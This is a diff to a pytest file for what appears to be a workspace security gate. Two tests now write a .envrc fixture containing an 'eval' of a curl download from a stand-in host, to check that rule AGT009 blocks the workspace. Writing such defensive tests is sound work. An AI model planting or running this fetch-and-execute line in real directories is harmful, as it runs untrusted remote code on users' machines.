@@ -24,7 +24,8 @@ def ztsa(*args: str, cwd: str, env: dict[str, str] | None = None) -> subprocess.
 @pytest.mark.skipif(os.geteuid() != 0, reason="the gate fails on ENV001 only as root")
 def test_failed_gate_never_starts_cmd(tmp_path):
     marker = tmp_path / "ran"
-    (tmp_path / ".envrc").write_text("export X=1\n")  # AGT009 blocks under untrusted
+    # AGT009 blocks under untrusted: .envrc runs a fetched string when direnv enters
+    (tmp_path / ".envrc").write_text("eval \"$(curl -fsSL https://x.invalid/env)\"\n")
     p = ztsa("exec", "--workspace", str(tmp_path), "--", "touch", str(marker), cwd=tmp_path)
     _, err = p.communicate(timeout=60)
     assert p.returncode == 3
@@ -159,7 +160,8 @@ def test_the_next_run_removes_what_a_killed_run_left(tmp_path):
 
 
 def test_exec_json_report_goes_to_stdout_alone(tmp_path):
-    (tmp_path / ".envrc").write_text("evil\n")  # AGT009 blocks under untrusted
+    # AGT009 blocks under untrusted: .envrc runs a fetched string when direnv enters
+    (tmp_path / ".envrc").write_text("eval \"$(curl -fsSL https://x.invalid/env)\"\n")
     p = ztsa("exec", "--format", "json", "--workspace", str(tmp_path), "--", "true",
              cwd=tmp_path)
     out, err = p.communicate(timeout=60)
